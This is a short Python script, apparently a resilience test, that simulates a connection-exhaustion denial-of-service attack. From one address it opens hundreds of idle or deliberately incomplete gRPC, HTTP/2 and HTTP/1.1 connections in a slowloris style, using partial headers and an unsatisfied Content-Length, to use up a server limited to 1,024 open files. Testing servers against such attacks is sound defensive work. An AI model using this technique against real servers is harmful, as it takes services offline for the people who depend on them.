"""gRPC and HTTP connections to a server that may open 1,024 files. One address opens more connections
than the server has places for. Each is idle, or its request is never complete.
"""

import http2
from attacker import frame

SERVER = {"files": 1024}
CONNECTIONS = 300  # of each kind


def attack(attacker):
    head = frame(http2.HEADERS, 0, 1, attacker.head())
    beginnings = (
        lambda: attacker.http2(), lambda: attacker.http2(head),
        lambda: attacker.connect(attacker.grpc), lambda: attacker.connect(attacker.http),
        lambda: attacker.connect(attacker.http, b"GET /healthz HTTP/1.1\r\nX: "),
        lambda: attacker.connect(attacker.http,
                                 b"POST /v1/check HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\n"))
    connections = []
    while True:
        for _ in range(CONNECTIONS):
            for connect in beginnings:
                connections += attacker.many(1, connect)
        del connections[:-6 * CONNECTIONS]
        if attacker.over(0.1):
            return
